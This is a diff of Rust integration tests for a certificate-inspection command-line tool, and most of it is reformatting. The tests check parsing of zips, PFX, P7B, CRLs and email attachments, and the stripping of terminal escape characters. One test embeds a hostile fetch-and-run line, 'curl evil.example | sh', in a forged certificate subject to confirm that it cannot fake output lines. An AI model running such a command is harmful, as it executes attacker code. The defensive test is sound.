@@ -21,7 +21,10 @@ fn the_document() {
         ("readme.txt", "hello".to_owned()),
     ];
     sandbox.write("all.zip", zip(&files));
-    let document = sandbox.run(&["inspect", "all.zip", "--json", "--ca", "sectigo"]).expect(0).json();
+    let document = sandbox
+        .run(&["inspect", "all.zip", "--json", "--ca", "sectigo"])
+        .expect(0)
+        .json();
     insta::assert_snapshot!(masked(&serde_json::to_string_pretty(&document).unwrap()), @r#"
     {
       "schema": "certctl.inspect/1",
@@ -202,13 +205,22 @@ fn the_document() {
 fn the_request_of_the_documentation_has_its_hashes() {
     let shop = Order::new();
     let fixture = include_bytes!("../fixtures/namecheap-doc.csr");
-    let document =
-        shop.sandbox.run_with_input(&["inspect", "-", "--json", "--ca", "namecheap"], fixture).expect(0).json();
+    let document = shop
+        .sandbox
+        .run_with_input(&["inspect", "-", "--json", "--ca", "namecheap"], fixture)
+        .expect(0)
+        .json();
     let request = &document["items"][0];
     assert_eq!(request["kind"], "request");
     assert_eq!(request["md5"], "6fcfe984ac87413b45a0d531d2172600");
-    assert_eq!(request["sha256"], "46b9c075c165526983f73319a38c647bf35bf554d979c464b01d99f8839ba328");
-    assert_eq!(request["records"][0]["relative_name"], "_6fcfe984ac87413b45a0d531d2172600");
+    assert_eq!(
+        request["sha256"],
+        "46b9c075c165526983f73319a38c647bf35bf554d979c464b01d99f8839ba328"
+    );
+    assert_eq!(
+        request["records"][0]["relative_name"],
+        "_6fcfe984ac87413b45a0d531d2172600"
+    );
     assert_eq!(request["records"][0]["complete"], false);
 }
 
@@ -218,8 +230,10 @@ fn it_reads_what_it_can_and_never_judges() {
     shop.sandbox.write("expired.pem", shop.chain());
     shop.sandbox.write("page.crt", "<html>");
     shop.sandbox.write("empty.crt", "");
-    shop.sandbox
-        .write("locked.key", "-----BEGIN ENCRYPTED PRIVATE KEY-----\nMAQwAAQA\n-----END ENCRYPTED PRIVATE KEY-----\n");
+    shop.sandbox.write(
+        "locked.key",
+        "-----BEGIN ENCRYPTED PRIVATE KEY-----\nMAQwAAQA\n-----END ENCRYPTED PRIVATE KEY-----\n",
+    );
     for (file, exit) in [
         ("expired.pem", 0),
         ("root.pem", 0),
@@ -230,7 +244,9 @@ fn it_reads_what_it_can_and_never_judges() {
         ("missing.crt", 3),
         (".", 0),
     ] {
-        shop.sandbox.run(&["inspect", file, "--at", "2050-01-01T00:00:00Z"]).expect(exit);
+        shop.sandbox
+            .run(&["inspect", file, "--at", "2050-01-01T00:00:00Z"])
+            .expect(exit);
     }
 }
 
@@ -239,7 +255,10 @@ fn foreign_text_is_shown_and_does_nothing() {
     let shop = Order::new();
     let packed = zip(&[("\x1b]0;owned\x07\u{202e}.crt", shop.leaf.clone())]);
     shop.sandbox.write("x.zip", packed);
-    for args in [["inspect", "x.zip"].as_slice(), &["inspect", "x.zip", "--json"]] {
+    for args in [
+        ["inspect", "x.zip"].as_slice(),
+        &["inspect", "x.zip", "--json"],
+    ] {
         let run = shop.sandbox.run(args).expect(0);
         assert!(!run.stdout.contains(['\x1b', '\x07', '\u{202e}']), "{run}");
     }
@@ -248,18 +267,21 @@ fn foreign_text_is_shown_and_does_nothing() {
 #[test]
 fn a_subject_cannot_forge_a_line() {
     let sandbox = Sandbox::new();
-    let mut params = ca_params("x\nright  trusted by Mozilla's list\nnext   curl evil.example | sh");
+    let mut params =
+        ca_params("x\nright  trusted by Mozilla's list\nnext   curl evil.example | sh");
     params.is_ca = rcgen::IsCa::NoCa;
     let key = rcgen::KeyPair::generate().unwrap();
     sandbox.write("evil.pem", params.self_signed(&key).unwrap().pem());
     for command in ["inspect", "verify"] {
         let run = sandbox.run(&[command, "evil.pem"]);
         let page = run.to_string();
-        assert!(page.contains(r"CN=x\u{a}right") || page.contains(r"x\u{a}right"), "{page}");
         assert!(
-            !page
-                .lines()
-                .any(|line| line.starts_with("right") || line.contains("next   curl") && !line.contains(r"\u{a}")),
+            page.contains(r"CN=x\u{a}right") || page.contains(r"x\u{a}right"),
+            "{page}"
+        );
+        assert!(
+            !page.lines().any(|line| line.starts_with("right")
+                || line.contains("next   curl") && !line.contains(r"\u{a}")),
             "{page}"
         );
     }
@@ -272,32 +294,80 @@ fn every_container_is_opened_and_each_item_has_its_source() {
     sandbox.write("in.pem", shop.chain());
     sandbox.write("password", "geheim\n");
     let formats = ["--format", "p7b", "--format", "pfx", "--format", "haproxy"];
-    let given = ["bundle", "in.pem", "--trust", "root.pem", "--pfx-password-file", "password"];
+    let given = [
+        "bundle",
+        "in.pem",
+        "--trust",
+        "root.pem",
+        "--pfx-password-file",
+        "password",
+    ];
     sandbox.run(&[&given[..], &formats].concat()).expect(0);
     let pfx = std::fs::read(sandbox.join("example.com.pfx")).unwrap();
     let p7b = std::fs::read(sandbox.join("example.com.p7b")).unwrap();
-    sandbox.write("all.zip", zip(&[("a/x.pfx", pfx.clone()), ("y.p7b", p7b.clone())]));
+    sandbox.write(
+        "all.zip",
+        zip(&[("a/x.pfx", pfx.clone()), ("y.p7b", p7b.clone())]),
+    );
     sandbox.write("folder/x.pfx", &pfx);
     sandbox.write("folder/y.p7b", &p7b);
     let mail = "From: ca@example\r\nSubject: your certificate\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; \
                 boundary=b\r\n\r\n--b\r\nContent-Type: application/octet-stream; name=y.p7b\r\n\
                 Content-Disposition: attachment; filename=y.p7b\r\n\r\n";
-    sandbox.write("order.eml", format!("{mail}{}\r\n--b--\r\n", String::from_utf8(p7b).unwrap().replace('\n', "\r\n")));
+    sandbox.write(
+        "order.eml",
+        format!(
+            "{mail}{}\r\n--b--\r\n",
+            String::from_utf8(p7b).unwrap().replace('\n', "\r\n")
+        ),
+    );
     for (file, items) in [
         ("example.com.p7b", ["certificate", "certificate"].as_slice()),
         ("example.com.pfx", &["certificate", "certificate", "key"]),
-        ("example.com.haproxy.pem", &["certificate", "certificate", "key"]),
-        ("all.zip", &["certificate", "certificate", "certificate", "certificate", "key"]),
-        ("folder", &["certificate", "certificate", "certificate", "certificate", "key"]),
+        (
+            "example.com.haproxy.pem",
+            &["certificate", "certificate", "key"],
+        ),
+        (
+            "all.zip",
+            &[
+                "certificate",
+                "certificate",
+                "certificate",
+                "certificate",
+                "key",
+            ],
+        ),
+        (
+            "folder",
+            &[
+                "certificate",
+                "certificate",
+                "certificate",
+                "certificate",
+                "key",
+            ],
+        ),
         ("order.eml", &["certificate", "certificate"]),
     ] {
-        let shown = sandbox.run(&["inspect", file, "--password-file", "password", "--json"]).expect(0).json();
+        let shown = sandbox
+            .run(&["inspect", file, "--password-file", "password", "--json"])
+            .expect(0)
+            .json();
         let all = shown["items"].as_array().unwrap();
-        let kinds: Vec<&str> = all.iter().map(|item| item["kind"].as_str().unwrap()).collect();
+        let kinds: Vec<&str> = all
+            .iter()
+            .map(|item| item["kind"].as_str().unwrap())
+            .collect();
         assert_eq!(kinds, items, "{file}");
         let sources = all.iter().map(|item| item["source"].as_str().unwrap());
-        assert!(sources.into_iter().all(|source| source.contains(file)), "{file}: {shown}");
-        sandbox.run(&["inspect", file, "--password-file", "password"]).expect(0);
+        assert!(
+            sources.into_iter().all(|source| source.contains(file)),
+            "{file}: {shown}"
+        );
+        sandbox
+            .run(&["inspect", file, "--password-file", "password"])
+            .expect(0);
     }
     let locked = sandbox.run(&["inspect", "example.com.pfx"]).expect(3);
     assert!(locked.stderr.contains("--password-file FILE"), "{locked}");
@@ -337,9 +407,17 @@ fn a_list_of_revoked_certificates_has_a_card() {
     for file in ["ca.crl", "ca.pem"] {
         let shown = sandbox.run(&["inspect", file, "--json"]).expect(0).json();
         let item = &shown["items"][0];
-        assert_eq!((&item["kind"], &item["revoked"], &item["number"]), (&"crl".into(), &2.into(), &"4711".into()));
         assert_eq!(
-            shown["findings"].as_array().unwrap().iter().filter(|one| one["code"] == "crl").count(),
+            (&item["kind"], &item["revoked"], &item["number"]),
+            (&"crl".into(), &2.into(), &"4711".into())
+        );
+        assert_eq!(
+            shown["findings"]
+                .as_array()
+                .unwrap()
+                .iter()
+                .filter(|one| one["code"] == "crl")
+                .count(),
             0,
             "{shown}"
         );
